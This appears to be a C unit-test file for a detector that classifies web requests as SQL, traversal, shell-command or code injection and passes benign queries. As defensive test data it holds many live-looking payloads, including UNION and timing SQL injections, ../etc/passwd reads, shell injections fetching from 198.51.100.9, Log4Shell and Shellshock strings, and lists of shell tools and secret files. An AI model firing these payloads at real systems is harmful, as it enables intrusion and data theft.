#include "detect/behaviour/web_sign.h"

#include "check.h"
#include "detect/behaviour/web_visit.h"

/* The kind that a target is, or WEB_ATTACK_COUNT. */
static enum web_attack kind_of(const char *target, bool was_encoded)
{
    struct web_plain plain;
    struct web_sign sign = {.kind = WEB_ATTACK_COUNT};
    web_plain_set(&plain, bytes_of_text(target));
    bool found = web_sign_find(web_plain_get(&plain), was_encoded, &sign);
    assert_int_equal(found, sign.kind != WEB_ATTACK_COUNT);
    assert_int_equal(found, sign.words.size > 0);
    return sign.kind;
}

static void knows_words_for_a_database(void **state)
{
    (void)state;
    static const char *const targets[] = {
        "/item?id=1+union+select+1,2,3",
        "/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--",
        "/item?id=1/**/union/**/select/**/concat(a,b)/**/from/**/t",
        "/item?id=1%27%20or%20%271%27=%271",
        "/item?id=1+or+1=1--",
        "/item?id=1+and+1=2",
        "/item?id=1%2527%2520or%25201%253D1",
        "/item?id=1'+order+by+7--",
        "/item?id=1+and+sleep(5)",
        "/item?id=1'xor(if(now()=sysdate(),sleep(15),0))xor'z",
        "/item?id=(select+table_name+from+information_schema.tables)",
        "/item?id=1';+drop+table+users",
        "/item?id=1;waitfor+delay+'0:0:5'",
        "/item?id=1+and+2=(select+count(*)+from+a)",
        "/item?id=1+and+1=convert(int,(select+1))",
        "/login?user=admin'--",
    };
    for (size_t i = 0; i < sizeof targets / sizeof *targets; i++) {
        assert_int_equal(kind_of(targets[i], false), WEB_SQL);
    }
}

static void knows_paths_that_climb_out(void **state)
{
    (void)state;
    assert_int_equal(kind_of("/get?file=../../../../etc/passwd", false), WEB_TRAVERSAL);
    assert_int_equal(kind_of("/get?file=..%2f..%2f..%2fa", false), WEB_TRAVERSAL);
    assert_int_equal(kind_of("/cgi-bin/.%2e/.%2e/a", true), WEB_TRAVERSAL);
    assert_int_equal(kind_of("/get?file=..\\..\\..\\windows\\win.ini", false), WEB_TRAVERSAL);
    assert_int_equal(kind_of("/shop/WEB-INF/web.xml?", false), WEB_TRAVERSAL);
    assert_int_equal(kind_of("/get?file=/etc/passwd", false), WEB_TRAVERSAL);
    assert_int_equal(kind_of("/get?file=file:///etc/passwd", false), WEB_TRAVERSAL);
}

static void knows_commands_for_a_shell(void **state)
{
    (void)state;
    static const char *const targets[] = {
        "/ping?host=127.0.0.1;cat+/etc/hostname",
        "/ping?host=a|whoami",
        "/ping?host=a%26%26wget+http://198.51.100.9/a",
        "/ping?host=$(id)",
        "/ping?host=`id`",
        "/ping?host=a;/usr/bin/id",
        "/ping?host=a%20%26%20ping%20-n%203%20127.0.0.1",
        "/ping?host=|/usr/bin/whoami",
        "/ping?host=|/bin/ls+-al",
        "/ping?host=a;wget${IFS}http://198.51.100.9/a",
    };
    for (size_t i = 0; i < sizeof targets / sizeof *targets; i++) {
        assert_int_equal(kind_of(targets[i], false), WEB_COMMAND);
    }
}

static void knows_code_for_the_program(void **state)
{
    (void)state;
    static const char *const targets[] = {
        "/?x=${jndi:ldap://198.51.100.9/a}",
        "/?x=$%7B$%7Blower:j%7Dndi:a%7D",
        "/index.php?page=php://filter/convert.base64-encode/resource=index",
        "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3da",
        "/?a=%3C%3Fphp%20echo",
        "/?s=/index/think/invokefunction&function=call_user_func",
        "/?class.module.classLoader.resources=a",
    };
    for (size_t i = 0; i < sizeof targets / sizeof *targets; i++) {
        assert_int_equal(kind_of(targets[i], false), WEB_CODE);
    }
}

static void leaves_what_people_and_programs_ask_for_alone(void **state)
{
    (void)state;
    static const char *const targets[] = {
        "/search?q=select+a+phone+from+our+shop",
        "/search?q=union+select+committee",
        "/search?q=credit+union+select+savings+account",
        "/search?q=rock+'n'+roll+or+jazz",
        "/search?q=women's+shoes+and+bags",
        "/search?q=drop+table+legs",
        "/search?q=time.sleep(5)",
        "/search?q=system()+in+php",
        "/search?q=dogs;+cat+pictures",
        "/search?q=ls+|+grep",
        "/search?q=ham+%26+eggs+%26+ls",
        "/search?q=(select+one)",
        "/search?q=uname+(command)",
        "/search?q=order+by+phone",
        "/list?sort=name;id&fields=name|id",
        "/list?filter=(price>10+and+size=4)",
        "/blog/../style.css",
        "/a/../../b.css",
        "/token?t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl%2B%2Fa%3D%3D",
        "/wp-admin/admin-ajax.php?action=heartbeat&_nonce=1a2b3c",
        "/wp-admin/load-scripts.php?c=1&load%5Bchunk_0%5D=jquery-core,utils&ver=6.4",
        "/api/v1/items?select=id,name&where=age%3E3%20and%20name%3D%27a%27&order=name.asc",
        "/grafana?query=sum(rate(x%5B5m%5D))%20by%20(id)",
        "/login?next=/etc/",
        "/a;jsessionid=1A2B?x=1",
        "/100%",
    };
    for (size_t i = 0; i < sizeof targets / sizeof *targets; i++) {
        if (kind_of(targets[i], false) != WEB_ATTACK_COUNT) {
            fail_msg("%s", targets[i]);
        }
    }
}

static void finds_code_in_headers_but_no_prose(void **state)
{
    (void)state;
    static const struct {
        const char *header;
        bool is_sign;
    } rows[] = {
        {"() { :; }; echo a", true},
        {"${jndi:dns://198.51.100.9/a}", true},
        {"Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0", false},
        {"https://www.example.test/?q=it's+a+union+select+1,2", false},
        {"curl/8.1", false},
    };
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct web_plain plain;
        struct web_sign sign;
        web_plain_set(&plain, bytes_of_text(rows[i].header));
        assert_int_equal(web_sign_find_in_header(web_plain_get(&plain), &sign),
                         rows[i].is_sign);
    }
}

static void names_every_kind(void **state)
{
    (void)state;
    for (int kind = 0; kind < WEB_ATTACK_COUNT; kind++) {
        assert_non_null(web_attack_name((enum web_attack)kind));
    }
}

/* What is found in text that is plain already; `encoded` as in web_sign_find. */
static enum web_attack kind_of_plain(const char *text)
{
    struct web_sign sign = {.kind = WEB_ATTACK_COUNT};
    (void)!web_sign_find(bytes_of_text(text), false, &sign);
    return sign.kind;
}

static void knows_every_construction(void **state)
{
    (void)state;
    static const struct {
        enum web_attack kind;
        const char *text;
    } rows[] = {
        {WEB_SQL, "x select 1from information_schema"},
        {WEB_SQL, "x and sleep("},
        {WEB_SQL, "x or sleep("},
        {WEB_SQL, "x ' 1sleep("},
        {WEB_SQL, "x select 1sleep("},
        {WEB_SQL, "x select 1benchmark("},
        {WEB_SQL, "x waitfor delay '"},
        {WEB_SQL, "x (select  1 from "},
        {WEB_SQL, "x select (case when"},
        {WEB_SQL, "x select 1concat(0x"},
        {WEB_SQL, "x ;select  1 from "},
        {WEB_SQL, "x ; select  1 from "},
        {WEB_SQL, "x char( 1||char("},
        {WEB_SQL, "x char( 1 char("},
        {WEB_SQL, "x chr( 1||chr("},
        {WEB_SQL, "x convert(int, 1select"},
        {WEB_SQL, "x dbms_pipe.receive_message("},
        {WEB_SQL, "x randomblob("},
        {WEB_SQL, "x benchmark( 1md5("},
        {WEB_SQL, "x '--"},
        {WEB_TRAVERSAL, "x web-inf/web.xml"},
        {WEB_SQL, "x extractvalue( 10x"},
        {WEB_SQL, "x updatexml( 1concat"},
        {WEB_SQL, "x select 1load_file("},
        {WEB_SQL, "x select 1into outfile '"},
        {WEB_SQL, "x select 1into dumpfile '"},
        {WEB_SQL, "x exec 1xp_cmdshell"},
        {WEB_SQL, "x '; 1drop table "},
        {WEB_SQL, "x ; drop table  1--"},
        {WEB_CODE, "x ${jndi:"},
        {WEB_CODE, "x ${${ 1:"},
        {WEB_CODE, "x ${lower:"},
        {WEB_CODE, "x ${::-"},
        {WEB_CODE, "x <?php "},
        {WEB_CODE, "x <?= 1("},
        {WEB_CODE, "x php://filter/ 1resource="},
        {WEB_CODE, "x =php://input"},
        {WEB_CODE, "x data://text/plain 1,"},
        {WEB_CODE, "x =expect://"},
        {WEB_CODE, "x allow_url_include 1auto_prepend_file"},
        {WEB_CODE, "x eval( 1base64_decode("},
        {WEB_CODE, "x call_user_func_array 1function="},
        {WEB_CODE, "x invokefunction 1call_user_func"},
        {WEB_CODE, "x system(' 1')"},
        {WEB_CODE, "x system($_"},
        {WEB_CODE, "x passthru( 1);"},
        {WEB_CODE, "x shell_exec( 1);"},
        {WEB_CODE, "x phpinfo();"},
        {WEB_CODE, "x @java.lang.runtime@"},
        {WEB_CODE, "x getruntime().exec("},
        {WEB_CODE, "x #_memberaccess"},
        {WEB_CODE, "x class.module.classloader 1="},
        {WEB_CODE, "x freemarker.template.utility.execute"},
        {WEB_CODE, "x __import__( 1("},
        {WEB_CODE, "x __class__.__ 1__"},
        {WEB_CODE, "x {{7*7}}"},
    };
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        if (kind_of_plain(rows[i].text) != rows[i].kind) {
            fail_msg("%s", rows[i].text);
        }
    }
}

static void assert_each(const char *const *parts, size_t count, const char *before,
                        const char *after, enum web_attack kind)
{
    for (size_t i = 0; i < count; i++) {
        struct text AUTO(text_done) text = text_of_limit(128);
        text_addf(&text, "%s%s%s", before, parts[i], after);
        if (kind_of_plain(text_terminated(&text)) != kind) {
            fail_msg("%s", text_terminated(&text));
        }
    }
}

static void knows_every_word_of_a_construction(void **state)
{
    (void)state;
    static const char *const commands[] = {
        "cat /",        "wget h",     "curl h",    "ping -",     "nc -",     "bash -",
        "sh -",         "python -",   "python3 -", "perl -",     "uname -",  "ls -",
        "chmod 3",      "rm -",       "whoami",    "ifconfig",   "ipconfig", "cmd /",
        "powershell -", "certutil -", "sleep 3",   "nslookup $", "cd /",     "busybox w",
        "id -",         "echo $",     "tftp -"};
    static const char *const files[] = {
        "etc/passwd", "etc/shadow",    "etc/hosts", "proc/self", "win.ini",   "boot.ini",
        ".ssh/",      "wp-config.php", ".htpasswd", "web-inf/",  "/.env",     "id_rsa",
        "system32",   "bin/sh",        "bin/bash",  "etc/group", "access.log"};
    static const char *const values[] = {"=/etc/passwd",  "=/etc/shadow",   "=/proc/self/",
                                         "=file:/etc/",   "=c:/boot.ini",   "=c:\\boot.ini",
                                         "=file:///etc/", "=c:\\windows\\", "=c:/windows/"};
    static const char *const columns[] = {"null", "@@", "concat", "char(", "version(", "0x"};
    assert_each(commands, sizeof commands / sizeof *commands, "/a?x=;", "", WEB_COMMAND);
    assert_each(files, sizeof files / sizeof *files, "/a?x=../", "", WEB_TRAVERSAL);
    assert_each(values, sizeof values / sizeof *values, "/a?x", "", WEB_TRAVERSAL);
    /* So long that the first column alone, a short digit, does not tell. */
    assert_each(columns, sizeof columns / sizeof *columns, "/a?x=1 union select ",
                "61626364656667686970", WEB_SQL);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(knows_words_for_a_database),
        cmocka_unit_test(knows_paths_that_climb_out),
        cmocka_unit_test(knows_commands_for_a_shell),
        cmocka_unit_test(knows_code_for_the_program),
        cmocka_unit_test(leaves_what_people_and_programs_ask_for_alone),
        cmocka_unit_test(finds_code_in_headers_but_no_prose),
        cmocka_unit_test(names_every_kind),
        cmocka_unit_test(knows_every_construction),
        cmocka_unit_test(knows_every_word_of_a_construction),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
